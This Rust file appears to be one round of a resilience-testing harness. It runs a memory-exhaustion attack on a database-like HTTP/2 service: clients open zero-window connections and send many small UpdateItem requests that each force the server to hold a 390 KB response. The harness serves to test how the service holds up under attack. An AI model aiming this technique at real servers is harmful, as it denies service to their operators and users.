use crate::crowd::{STREAMS, crowd};
use crate::fixture;
use crate::frames::{self, INITIAL_WINDOW_SIZE};
use crate::round::{Kind, Round};
use crate::victim;
use std::time::Duration;

const CLIENTS: usize = 16;

/// Updates of 200 bytes that ask for the item of 390 KB that they change, on HTTP/2 connections that
/// let the server send nothing. What was done could not be refused, so all of these answers were
/// held, whatever they took.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    fixture::fill_large(requests)?;
    let mut sent = 0;
    round.attack_endpoint(&mut endpoint, |until| {
        let streams = crowd(CLIENTS, |client| {
            let body = fixture::large_update(client, "ALL_NEW").into_bytes();
            let settings = [(INITIAL_WINDOW_SIZE, 0)];
            let opened = frames::open(requests.address, &settings, Duration::from_secs(5));
            let Ok(mut connection) = opened else { return 0 };
            let mut streams = 0;
            for index in 0..STREAMS {
                let request = frames::request(&requests, 2 * index + 1, "UpdateItem", &body);
                // A connection that is closed is a way to hold this off.
                if until.is_over() || connection.send(&request).is_err() {
                    break;
                }
                streams += 1;
            }
            until.wait();
            streams
        });
        sent = streams.iter().sum();
        victim::put_large(requests)
    })?;
    round.check(sent > 0, || "nothing was sent".to_owned());
    round.note(format!("{sent} updates"));
    Ok(())
}
